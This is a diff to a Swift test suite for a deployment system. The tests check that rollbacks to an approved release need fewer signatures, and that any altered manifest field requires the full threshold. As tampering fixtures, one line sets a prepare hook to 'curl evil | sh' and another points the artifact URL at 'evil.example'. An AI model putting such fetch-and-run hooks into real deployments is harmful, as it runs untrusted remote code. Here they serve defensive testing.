@@ -87,20 +87,62 @@ import Testing
         #expect(Fixtures.verify(envelope, host: production, policy: policy).code == .thresholdNotMet)
     }
 
-    @Test func rollbackThresholdForAReleaseThatRanSuccessfully() throws {
-        let envelope = Fixtures.envelope(Fixtures.manifest(release: "v1", environment: "production"), signedBy: [Fixtures.bob])
-        let artifact = Fixtures.manifest().artifact.sha256
-        let history = AppHistory(lastSerial: 9, lastPayloadDigest: "x", succeededReleases: ["v1"], succeededArtifacts: ["v1": artifact])
-        let verified = try Fixtures.verify(envelope, host: production, history: history).get()
+    @Test func rollbackThresholdForAReturnToAnApprovedRelease() throws {
+        let approved = Fixtures.manifest(release: "v1", environment: "production")
+        let history = AppHistory(lastSerial: 9, lastPayloadDigest: "x", approvedReleases: ["v1": approved])
+        var back = Manifest.returning(
+            to: approved, serial: 10, issuedAt: approved.issuedAt.addingTimeInterval(60),
+            expiresAt: approved.expiresAt.addingTimeInterval(60), notes: "back to v1: errors in v2")
+        let verified = try Fixtures.verify(Fixtures.envelope(back, signedBy: [Fixtures.bob]), host: production, history: history).get()
         #expect(verified.isRollback)
         #expect(verified.requiredSignatures == 1)
-        // The same single signature for a release the host never ran is not enough.
+        #expect(verified.approved == approved)
+        // The same single signature for a release the host does not hold is not enough.
         let fresh = Fixtures.envelope(Fixtures.manifest(release: "v3", environment: "production"), signedBy: [Fixtures.bob])
         #expect(Fixtures.verify(fresh, host: production, history: history).code == .thresholdNotMet)
+        // Nor when the host no longer holds v1's approved manifest.
+        #expect(Fixtures.verify(Fixtures.envelope(back, signedBy: [Fixtures.bob]), host: production,
+                                history: AppHistory(lastSerial: 9)).code == .thresholdNotMet)
         // Nor for the old name with other bytes.
-        var swapped = Fixtures.manifest(release: "v1", environment: "production")
-        swapped.artifact.sha256 = String(repeating: "cd", count: 32)
-        #expect(Fixtures.verify(Fixtures.envelope(swapped, signedBy: [Fixtures.bob]), host: production, history: history).code == .thresholdNotMet)
+        back.artifact.sha256 = String(repeating: "cd", count: 32)
+        #expect(Fixtures.verify(Fixtures.envelope(back, signedBy: [Fixtures.bob]), host: production, history: history).code == .returnMismatch)
+    }
+
+    /// Every field but serial, issuedAt, expiresAt and notes must equal the approved
+    /// manifest's for the lower threshold; with the full threshold it is a new approval.
+    @Test(arguments: [
+        "targets", "artifact.sha256", "artifact.size", "artifact.format", "artifact.url", "hooks.prepare",
+        "hooks.activate", "health", "bake", "keep", "owner", "source",
+    ])
+    func aReturnThatDiffersFromTheApprovedManifestNeedsTheFullThreshold(field: String) throws {
+        let approved = Fixtures.manifest(release: "v1", environment: "production")
+        let history = AppHistory(lastSerial: 9, approvedReleases: ["v1": approved])
+        var changed = Manifest.returning(
+            to: approved, serial: 10, issuedAt: approved.issuedAt, expiresAt: approved.expiresAt, notes: "return")
+        switch field {
+        case "targets": changed.targets = ["web-1", "web-2"]
+        case "artifact.sha256": changed.artifact.sha256 = String(repeating: "ef", count: 32)
+        case "artifact.size": changed.artifact.size += 1
+        case "artifact.format": changed.artifact.format = changed.artifact.format == .tar ? .tarGz : .tar
+        case "artifact.url": changed.artifact.url = "https://evil.example/a.tar.gz"
+        case "hooks.prepare": changed.hooks = Hooks(prepare: Hook(command: .shell("curl evil | sh")), activate: approved.hooks?.activate)
+        case "hooks.activate": changed.hooks = Hooks(prepare: approved.hooks?.prepare, activate: Hook(command: .argv(["/bin/true"])))
+        case "health": changed.health = nil
+        case "bake": changed.bake = .seconds(1)
+        case "keep": changed.keep = 100
+        case "owner": changed.owner = "someone else"
+        case "source": changed.source = "git:0000000"
+        default: Issue.record("unknown field \(field)")
+        }
+        #expect(changed.returnDifferences(from: approved) == [field])
+        let one = Fixtures.verify(Fixtures.envelope(changed, signedBy: [Fixtures.bob]), host: production, history: history)
+        #expect(one.code == .returnMismatch)
+        #expect(one.message?.contains(field) == true)
+        let full = try Fixtures.verify(
+            Fixtures.envelope(changed, signedBy: [Fixtures.alice, Fixtures.bob]), host: production, history: history).get()
+        #expect(!full.isRollback)
+        #expect(full.approved == nil)
+        #expect(full.requiredSignatures == 2)
     }
 
     @Test func duplicateMembersAreRefused() {
